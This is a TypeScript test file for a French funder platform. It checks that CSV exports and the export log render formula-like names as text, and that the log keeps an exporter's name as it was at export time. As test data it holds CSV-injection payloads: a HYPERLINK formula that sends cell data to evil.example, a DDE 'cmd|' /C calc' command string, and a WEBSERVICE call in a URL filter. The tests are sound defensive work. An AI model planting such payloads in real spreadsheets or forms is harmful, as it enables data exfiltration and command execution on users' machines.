// The programme's CSVs and export log as an attacker would try them: a name that is a spreadsheet formula
// stays text in every file, and the log keeps the name the exporter had when the file left.
import Papa from "papaparse";
import { eq } from "drizzle-orm";
import { describe, expect, it } from "vitest";
import { db } from "~db/client.server";
import { groups, organisationMembers, organisations, programmeGroups, programmes, users } from "~db/schema";
import * as exportRoute from "~/routes/p.$programmeId.export.$file";
import * as exportsPage from "~/routes/p.$programmeId.exports";
import { makeGroup, makeHousehold, requestAs } from "../fixtures";

const FORMULA_GROUP = '=HYPERLINK("http://evil.example/?d="&A1;"Cliquez")';
const FORMULA_NAME = "@SUM(1+1)*cmd|' /C calc'!A0";

const funder = db.insert(organisations).values({ name: "Fondation Formule", kind: "funder" }).returning().get();
const programme = db
  .insert(programmes)
  .values({ organisationId: funder.id, name: "Programme Formule", startsOn: "2024-01-01", endsOn: "2027-12-31" })
  .returning()
  .get();
function officer(name: string, email: string) {
  const u = db.insert(users).values({ email, passwordHash: "x", name }).returning().get();
  db.insert(organisationMembers).values({ organisationId: funder.id, userId: u.id, role: "programme_officer" }).run();
  return u;
}
const honest = officer("Claire Dupont", "claire.dupont@fondation.fr");
const attacker = officer(FORMULA_NAME, "mallory@fondation.fr");
const group = makeGroup(FORMULA_GROUP);
db.update(groups).set({ city: "+33 6 12 34 56 78" }).where(eq(groups.id, group.id)).run();
for (let i = 0; i < 6; i++) makeHousehold(group.id, `Foyer ${i}`);
db.insert(programmeGroups).values({ programmeId: programme.id, groupId: group.id }).run();

const args = <P extends Record<string, string>>(request: Request, params: P) => ({ request, params, context: {} as never });
async function download(userId: string, file: string) {
  const res = (await exportRoute.loader(
    args(requestAs(userId, `http://localhost/p/${programme.id}/export/${file}`), { programmeId: programme.id, file: file.split("?")[0]! }),
  )) as Response;
  expect(res.status).toBe(200);
  const text = (await res.text()).replace(/^\uFEFF/, "");
  return Papa.parse<string[]>(text, { delimiter: ";" }).data;
}
/** Cells a spreadsheet would evaluate: starting with = + - @ (after spaces), a tab or a CR — numbers aside. */
const live = (rows: string[][]) => rows.flat().filter((c) => /^\s*[=+\-@＝＋－＠]|^[\t\r]/.test(c) && !/^[+-]?\d+([.,]\d+)?$/.test(c));

describe("CSV exports", () => {
  it("a group named like a formula goes out as text in every table that names it", async () => {
    for (const file of ["overview.csv", "groups.csv", `group.csv?group=${group.id}`]) {
      const rows = await download(honest.id, file);
      expect(live(rows), file).toEqual([]);
      if (!file.startsWith("group.csv")) expect(rows.flat(), file).toContain(`'${FORMULA_GROUP}`);
    }
    expect((await download(honest.id, "groups.csv")).flat()).toContain("'+33 6 12 34 56 78");
  });

  it("an officer named like a formula is text in the export log, as are the filters typed in the URL", async () => {
    await download(attacker.id, "overview.csv?q=%3DWEBSERVICE(%22http%3A%2F%2Fevil.example%22)");
    const rows = await download(honest.id, "exports.csv");
    expect(live(rows)).toEqual([]);
    expect(rows.flat()).toContain(`'${FORMULA_NAME}`);
  });

  it("the export log shows the name the exporter had when the file left, with a French date and the table's name", async () => {
    const before = Date.now();
    await download(honest.id, "groups.csv");
    db.update(users).set({ name: "Claire Martin" }).where(eq(users.id, honest.id)).run();

    const page = exportsPage.loader(args(requestAs(honest.id, `http://localhost/p/${programme.id}/exports`), { programmeId: programme.id }));
    expect(page.log[0]).toMatchObject({ who: "Claire Dupont", what: "groups" });

    const rows = await download(honest.id, "exports.csv");
    const groupsRow = rows.find((r) => r.includes("Claire Dupont"))!;
    expect(groupsRow, "the log's own CSV keeps the name at the time").toBeDefined();
    expect(groupsRow).toContain("Liste des collectifs");
    // « 3 décembre 2026 à 14:05 », never an ISO instant.
    expect(groupsRow[0]).not.toMatch(/\d{4}-\d{2}-\d{2}T/);
    expect(groupsRow[0]).toContain(String(new Date(before).getFullYear()));
    expect(rows.flat()).not.toContain("Claire Martin");
  });
});
